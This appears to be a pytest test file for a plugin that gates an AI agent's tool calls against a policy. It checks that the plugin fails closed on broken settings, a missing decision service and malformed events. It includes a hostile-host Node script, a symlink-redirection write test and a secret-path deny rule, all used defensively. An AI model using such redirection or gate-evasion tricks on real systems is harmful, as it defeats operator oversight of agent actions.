    home = tmp_path_factory.mktemp("shared") / "home"
    home.mkdir()
    site = Site(home)
    policy = home.parent / "policy.yaml"
    policy.write_text("default_verdict: block\nrules:\n  - name: reads\n    effect: allow\n    match: {tool_names: [read]}\n")
    site.json("--policy", policy)
    (home.parent / "driver.mjs").write_text(DRIVER)
    yield site


def asked(site: Site, calls: list[Any], mode: str = "policy", **env: str) -> list[str]:
    command = [str(NODE), str(site.home.parent / "driver.mjs"), str(site.plugin / "index.js"), json.dumps(calls), mode]
    done = subprocess.run(command, env={**site.env, **env}, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    found: list[str] = json.loads(done.stdout)
    return found


needs_node = pytest.mark.skipif(not NODE, reason="no node")


@needs_node
@pytest.mark.parametrize("mode", ["policy", "hook"])
def test_the_plugin_vetoes_and_allows(installed: Site, mode: str) -> None:
    ctx = {"toolName": "read", "sessionKey": "agent:main", "agentId": "main"}
    odd = [None, 1, {}, {"toolName": "read"}, {"toolName": "read", "params": []}, {"toolName": 3, "params": {}}, {"toolName": "read", "params": {"a": "\ud800"}}]
    answers = asked(installed, [[READ, ctx], [EXEC, {}], [READ, None], *([event, {}] for event in odd)], mode)
    assert answers[0] == answers[2] == "allow"
    assert "Gait blocked this call" in answers[1] and "tell the operator" in answers[1]
    assert [answer.split(":")[0] for answer in answers[3:6]] == ["veto"] * 3
    assert [answer.split(":")[0] for answer in answers[7:]] == ["veto"] * 3


@needs_node
def test_a_call_is_judged_once_and_again_when_another_plugin_changed_it(installed: Site) -> None:
    assert asked(installed, [[READ, {}]], "both") == ["allow", "allow", "allow"]
    assert asked(installed, [[{**READ, "toolName": "exec"}, {}]], "both")[1:] == ["veto", "veto"]
    line = json.loads((installed.home / ".gait/openclaw/outcomes.jsonl").read_text().splitlines()[0])
    assert (line["toolCallId"], line["status"], line["duration_ms"]) == ("c2", "ok", 3)


HOSTILE = """
const found = {};
const { default: plugin } = await import("file://" + encodeURI(process.argv[2]));
const out = [];
const say = (name, value) => out.push([name, value === undefined ? "allow" : value.block === true ? "veto" : "odd"]);
const on = (name, handler) => { found[name] = handler; };
const of = (api) => { plugin.register(Object.setPrototypeOf(api, { on })); return found.before_tool_call; };
const read = { toolName: "read", params: { path: "x" }, toolCallId: "c" };
say("control", await of({})(read, {}));
say("no trusted policy after all", await of({ registerTrustedToolPolicy() { throw Error("not enabled"); } })(read, {}));
say("no after_tool_call", await of({ on(name, handler) { if (name !== "before_tool_call") throw Error("unknown"); found[name] = handler; } })(read, {}));
say("settings that throw", await of({ get config() { throw Error("gone"); } })(read, {}));
say("settings that throw oddly", await of({ get config() { throw Object.create(null); } })(read, {}));
const loop = { ...read, params: {} };
loop.params.self = loop;
say("arguments without a JSON form", await of({})(loop, {}));
say("arguments that throw", await of({})({ toolName: "read", get params() { throw null; } }, {}));
say("an event that throws", await of({})(new Proxy({}, { get() { throw 1; } }), {}));
let policy;
const hook = of({ registerTrustedToolPolicy: (given) => { policy = given.evaluate; } });
const forbidden = { ...read, toolName: "exec" };
const later = Date.now() + 31_000;
say("judged", await policy(read, {}));
const { renameSync } = await import("node:fs");
renameSync(process.argv[3], process.argv[3] + ".away");
say("the same call a moment later is not asked again", await hook(read, {}));
say("but only once", await hook(read, {}));
renameSync(process.argv[3] + ".away", process.argv[3]);
for (const [name, event] of [["without an id", { ...read, toolCallId: undefined }], ["too late", { ...read, toolCallId: "late" }]]) {
  await policy(event, {});
  renameSync(process.argv[3], process.argv[3] + ".away");
  const now = Date.now;
  if (name === "too late") Date.now = () => later + 31_000;
  say(name, await hook(event, {}));
  Date.now = now;
  renameSync(process.argv[3] + ".away", process.argv[3]);
}
say("another tool under the same id", await hook(forbidden, {}));
console.log(JSON.stringify(out));
"""


@needs_node
def test_nothing_that_the_host_does_leaves_as_a_throw_or_an_allow(installed: Site) -> None:
    """A rejection of the hook lets the tool run on OpenClaw 2026.3.28, and a plugin that fails to load leaves a gateway ungated."""
    script = installed.home.parent / "hostile.mjs"
    script.write_text(HOSTILE)
    command = [str(NODE), str(script), str(installed.plugin / "index.js"), str(installed.skill / "gait.py")]
    done = subprocess.run(command, env=installed.env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    allowed = ["control", "no trusted policy after all", "no after_tool_call", "judged", "the same call a moment later is not asked again"]
    assert [name for name, answer in found if answer == "allow"] == allowed
    assert {answer for name, answer in found if name not in allowed} == {"veto"} and len(found) == 14


@needs_node
def test_the_outcomes_are_not_written_through_a_link(installed: Site) -> None:
    path, victim = installed.home / ".gait/openclaw/outcomes.jsonl", installed.home / "victim"
    asked(installed, [[READ, {}]], "both")
    victim.write_text("")
    path.unlink()
    path.symlink_to(victim)
    try:
        assert asked(installed, [[READ, {}]], "both")[0] == "allow" and victim.read_text() == ""
    finally:
        path.unlink()


@needs_node
def test_the_hosts_own_workspace_is_the_one_that_counts(installed: Site) -> None:
    """`agent exec --cwd` and an agent with its own workspace: what a relative path means there."""
    policy = installed.skill / "policy.yaml"
    before = policy.read_text()
    agents = {"defaults": {"workspace": "/srv/a"}, "list": [{"id": "other", "workspace": "~/b"}, None, {"id": "plain"}]}
    try:
        policy.write_text(
            "default_verdict: block\nrules:\n  - name: reads\n    effect: allow\n    match: {tool_names: [read]}\n"
            f'    endpoint: {{path_allowlist: ["/srv/a/**", "{installed.home}/b/**"], path_denylist: ["/srv/a/secret"]}}\n'
        )
        calls = [[{**READ, "params": {"path": path}}, {"agentId": agent}] for path in ("x", "secret") for agent in ("main", "other", "plain")]
        answers = asked(installed, calls, HOST_CONFIG=json.dumps({"agents": agents}))
        assert [answer[:5] for answer in answers] == ["allow", "allow", "allow", "veto:", "allow", "veto:"]
        assert asked(installed, calls[:1])[0].startswith("veto: Gait blocked")
    finally:
        policy.write_text(before)


@needs_node
def test_calls_come_from_a_verified_package_only(installed: Site, tmp_path: Path) -> None:
    """What the plugin's settings name is verified by Gait at each call; what an event claims is nothing."""
    package = sample.folder(tmp_path / "package", sample.signed(sample.skill()))
    config, policy = installed.skill / "skill_config.json", installed.skill / "policy.yaml"
    before, call = (config.read_text(), policy.read_text()), {**READ, "skill_provenance": {"publisher": "acme", "trust": "verified"}}
    try:
        policy.write_text("default_verdict: block\nrules: [{name: ours, effect: allow, match: {skill_publishers: [acme], skill_trust: [verified]}}]\n")
        assert asked(installed, [[call, {}]])[0].startswith("veto: Gait blocked")
        named = {"skill": str(package), "skill_private_key": str(sample.ring_file(tmp_path / "ring.json"))}
        config.write_text(json.dumps({**json.loads(before[0]), **named}))
        assert asked(installed, [[call, {}]]) == ["allow"]
        (package / "SKILL.md").write_text("changed")
        assert "skill_unverified" in asked(installed, [[call, {}]])[0]
    finally:
        config.write_text(before[0])
        policy.write_text(before[1])


BROKEN = {
    "gone": lambda site: (site.skill / "gait.py").unlink(),
    "crash": lambda site: (site.skill / "gait.py").write_text("raise SystemExit(0)\n"),
    "garbage": lambda site: (site.skill / "gait.py").write_text("print('{\"block\": 0}')\n"),
    "silence": lambda site: (site.skill / "gait.py").write_text(""),
    "fails_after_an_allow": lambda site: (site.skill / "gait.py").write_text("print('{\"block\": false}'); raise SystemExit(1)\n"),
    "more_than_an_answer": lambda site: (site.skill / "gait.py").write_text("print('{\"block\": false, \"x\": 1}')\n"),
    "slow": lambda site: (site.skill / "gait.py").write_text("import time; time.sleep(30)\n"),
    "policy": lambda site: (site.skill / "policy.yaml").write_text("\0"),
    "settings": lambda site: (site.skill / "skill_config.json").write_text("{"),
    "settings_unknown_key": lambda site: (site.skill / "skill_config.json").write_text('{"polcy": "x"}'),
    "settings_type": lambda site: (site.skill / "skill_config.json").write_text('{"deadline_seconds": "8"}'),
    "settings_null": lambda site: (site.skill / "skill_config.json").write_text("null"),
    "place": lambda site: (site.plugin / "gait-gate.json").unlink(),
    "python": lambda site: (site.plugin / "gait-gate.json").write_text(
        json.dumps({**json.loads((site.plugin / "gait-gate.json").read_text()), "python": "/nowhere/python3"})
    ),
    "server_only": lambda site: (site.skill / "skill_config.json").write_text('{"server": "127.0.0.1:9", "server_required": true}'),
    "skill_without_a_key": lambda site: (site.skill / "skill_config.json").write_text(json.dumps({"skill": str(site.skill)})),
    "skill_with_a_server": lambda site: (site.skill / "skill_config.json").write_text('{"skill": "/x", "skill_public_key": "/k", "server": "127.0.0.1:9"}'),
    "server_elsewhere": lambda site: (site.skill / "skill_config.json").write_text('{"server": "example.com:80", "server_required": true}'),
}


@needs_node
@pytest.mark.parametrize("name", BROKEN)
def test_whatever_breaks_is_a_veto(installed: Site, name: str) -> None:
    kept = {path: path.read_bytes() for path in (*(installed.skill / n for n in ("gait.py", "policy.yaml", "skill_config.json")), installed.plugin / "gait-gate.json")}
    try:
        if name == "slow":
            (installed.skill / "skill_config.json").write_text('{"deadline_seconds": 1}')
        BROKEN[name](installed)
        for mode in ("policy", "hook") if name in ("gone", "settings") else ("policy",):
            assert asked(installed, [[READ, {}]], mode)[0].startswith("veto: Gait vetoed this call, since it got no decision")
    finally:
        for path, data in kept.items():
            path.write_bytes(data)


ANSWERS = {
    "allow": ('{"ok": true, "verdict": "allow", "exit_code": 0, "trace_id": "t"}', "allow"),
    "block": ('{"ok": true, "verdict": "block", "exit_code": 3, "trace_id": "t", "reason_codes": ["no"]}', "because of no"),
    "approval": ('{"ok": true, "verdict": "require_approval", "exit_code": 4, "trace_id": "t"}', "a person must approve"),
    "simulated": ('{"ok": true, "verdict": "allow", "exit_code": 0, "trace_id": "t", "simulated_verdict": "block"}', "no answer from"),
    "contradiction": ('{"ok": true, "verdict": "allow", "exit_code": 3, "trace_id": "t"}', "no answer from"),
    "no_trace": ('{"ok": true, "verdict": "allow", "exit_code": 0}', "no answer from"),
    "prototype": ('{"ok": true, "verdict": "constructor", "trace_id": "t"}', "no answer from"),
    "garbage": ("allow", "no answer from"),
    "cut": ('{"ok": true, "verdict": "allow", "exit_code": 0, "trace_id": "t"}', "no answer from"),
}


@needs_node
@pytest.mark.parametrize("name", ANSWERS)
def test_a_service_is_believed_only_when_it_gives_a_decision(installed: Site, name: str) -> None:
    import socket
    from threading import Thread

    body, expected = ANSWERS[name]
    server = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        connection = server.accept()[0]
        connection.settimeout(5)
        data = b""
        while b'"call":' not in data or not data.endswith(b"}"):
            data += connection.recv(65536)
        length = len(body) + (5 if name == "cut" else 0)
        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {length}\r\nContent-Type: application/json\r\n\r\n{body}".encode())
        connection.close()

    thread = Thread(target=serve, daemon=True)
    thread.start()
    config = installed.skill / "skill_config.json"
    before = config.read_bytes()
    try:
        config.write_text(json.dumps({"server": f"127.0.0.1:{server.getsockname()[1]}", "server_required": True}))
        assert expected in asked(installed, [[READ, {}]])[0]
    finally:
        config.write_bytes(before)
        thread.join(5)
        server.close()


@needs_node
def test_without_the_service_the_policy_still_decides(installed: Site) -> None:
    config = installed.skill / "skill_config.json"
    before = config.read_bytes()
    try:
        config.write_text(json.dumps({"server": "127.0.0.1:9"}))
        answers = asked(installed, [[READ, {}], [EXEC, {}]])
        assert answers[0] == "allow" and "Gait blocked" in answers[1]
    finally:
        config.write_bytes(before)


@pytest.mark.parametrize("scenario", ["allow", "block", "require_approval"])
def test_the_quickstart_executes_only_on_allow(scenario: str, tmp_path: Path) -> None:
    command = [sys.executable, str(SKILL / "quickstart.py"), "--scenario", scenario]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    said = dict(line.split("=", 1) for line in done.stdout.splitlines())
    assert done.returncode == 0, done.stderr
    assert (said["framework"], said["verdict"], said["executed"]) == ("openclaw", scenario, str(scenario == "allow").lower())
    folder = tmp_path / "gait-out/integrations/openclaw"
    assert (folder / f"written_{scenario}.txt").exists() is (scenario == "allow")
    assert said["trace_path"] == str(folder / f"trace_{scenario}.json")
